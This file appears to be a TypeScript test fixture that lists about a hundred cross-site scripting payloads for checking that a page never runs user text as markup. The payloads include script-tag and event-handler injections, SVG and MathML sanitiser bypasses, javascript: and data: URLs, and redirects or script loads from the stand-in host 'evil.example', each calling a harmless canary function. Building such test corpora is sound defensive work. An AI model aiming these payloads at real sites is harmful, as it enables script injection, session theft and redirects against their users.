/** A page that runs one of the texts calls this function. */
export const CANARY_FUNCTION = 'duetCanary'
/** Where a text that is obeyed sends something. */
export const FOREIGN_HOST = 'evil.example'
export const RUN = `${CANARY_FUNCTION}(1)`
export const FOREIGN = `//${FOREIGN_HOST}/x`

/** Elements, handlers and addresses that a page would run if it took a text for markup. */
export function hostileMarkup(): string[] {
  return [...scripts(), ...handlers(), ...drawings(), ...addresses()]
}

function scripts(): string[] {
  return [
    `<script>${RUN}</script>`,
    `<SCRIPT>${RUN}</SCRIPT>`,
    `<script>${RUN}`,
    `<script >${RUN}</script >`,
    `<script\n>${RUN}</script\n>`,
    `<script/x>${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<<script>${RUN};//<</script>`,
    `<script type=module>${RUN}</script>`,
    `<script type="text/babel">${RUN}</script>`,
    `<script src=${FOREIGN}.js></script>`,
    `<script src="data:text/javascript,${RUN}"></script>`,
    `<script nonce="">${RUN}</script>`,
    `<script>/*</script><script>*/${RUN}</script>`,
    `<script><!--\n${RUN}\n//--></script>`,
    `<noscript><p title="</noscript><script>${RUN}</script>">`,
    `<textarea></textarea><script>${RUN}</script>`,
    `</title><script>${RUN}</script>`,
    `</textarea><script>${RUN}</script>`,
    `</style><script>${RUN}</script>`,
    `<!--><script>${RUN}</script>-->`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<?xml version="1.0"?><script>${RUN}</script>`,
    `\u{ff1c}script\u{ff1e}${RUN}\u{ff1c}/script\u{ff1e}`,
    `\u02ba\u203a<script>${RUN}</script>`,
  ]
}

function handlers(): string[] {
  const elements: [element: string, event: string][] = [
    ['img src=x', 'onerror'],
    ['img src', 'onerror'],
    ['body', 'onload'],
    ['body', 'onpageshow'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['details open', 'ontoggle'],
    ['video><source', 'onerror'],
    ['audio src=x', 'onerror'],
    ['object data=x', 'onerror'],
    ['iframe src=about:blank', 'onload'],
    ['marquee', 'onstart'],
    ['link rel=stylesheet href=/', 'onload'],
    ['style', 'onload'],
    ['a href=# autofocus tabindex=1', 'onfocus'],
    ['div style="animation:x 1s" ', 'onanimationstart'],
    ['p contenteditable autofocus', 'onfocus'],
    ['dialog open', 'oncancel'],
    ['x tabindex=1 id=x', 'onfocusin'],
    ['img srcset=x', 'onerror'],
    ['image src=x', 'onerror'],
    ['embed src=x', 'onload'],
    ['track default src=x', 'onerror'],
    ['button popovertarget=y autofocus', 'onfocus'],
  ]
  return [
    ...elements.map(([element, event]) => `<${element} ${event}=${RUN}>`),
    `"><img src=x onerror=${RUN}>`,
    `'><img src=x onerror=${RUN}>`,
    `\`><img src=x onerror=${RUN}>`,
    `" onmouseover="${RUN}`,
    `' onmouseover='${RUN}`,
    `" autofocus onfocus="${RUN}" x="`,
    `x onerror=${RUN}`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src=x onerror\n=\n${RUN}>`,
    `<img src=x onerror="&#100;uetCanary(1)">`,
    `<IMG """><IMG SRC=x ONERROR=${RUN}>`,
    `<img src="x\`><img src=x onerror=${RUN}>`,
    `<math><mtext><img src=x onerror=${RUN}>`,
    `<template><img src=x onerror=${RUN}></template>`,
    `<form><button formaction=javascript:${RUN}>x`,
  ]
}

function drawings(): string[] {
  const namespace = 'xmlns="http://www.w3.org/2000/svg"'
  return [
    `<svg onload=${RUN}>`,
    `<svg/onload=${RUN}>`,
    `<svg ${namespace} onload="${RUN}"/>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:,${RUN}"/></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><set onbegin=${RUN} attributeName=x to=y>`,
    `<svg><a href="javascript:${RUN}"><text x=9 y=9>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>x</text></a>`,
    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
    `<svg><image href=x onerror=${RUN}>`,
    `<svg><style><img src=x onerror=${RUN}></style></svg>`,
    `<svg><title><img src=x onerror=${RUN}></title></svg>`,
    `<svg><desc></svg><img src=x onerror=${RUN}>`,
    `<math href="javascript:${RUN}">x</math>`,
    `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x</maction></math>`,
    `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  ]
}

function addresses(): string[] {
  return [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    ` javascript:${RUN}`,
    `java\tscript:${RUN}`,
    `java\nscript:${RUN}`,
    `javascript&colon;${RUN}`,
    `javascript://%0a${RUN}`,
    `javascript:/*--></title></style></textarea></script><svg onload=${RUN}>`,
    `\u0001javascript:${RUN}`,
    `vbscript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD5kdWV0Q2FuYXJ5KDEpPC9zY3JpcHQ+`,
    `<a href="javascript:${RUN}">x</a>`,
    `<a href=javascript&#58;${RUN}>x</a>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<base href="${FOREIGN}/">`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<meta http-equiv=refresh content="0;url=https:${FOREIGN}">`,
    `<form action=https:${FOREIGN}><input type=submit>`,
    `<img src="https:${FOREIGN}.png">`,
    `<link rel=stylesheet href=https:${FOREIGN}.css>`,
    `<link rel=preload as=script href=https:${FOREIGN}.js>`,
    `https:${FOREIGN}`,
    `${FOREIGN}/%2e%2e/`,
    `../../../api/log_out?everywhere=1`,
    `/\\${FOREIGN_HOST}`,
  ]
}
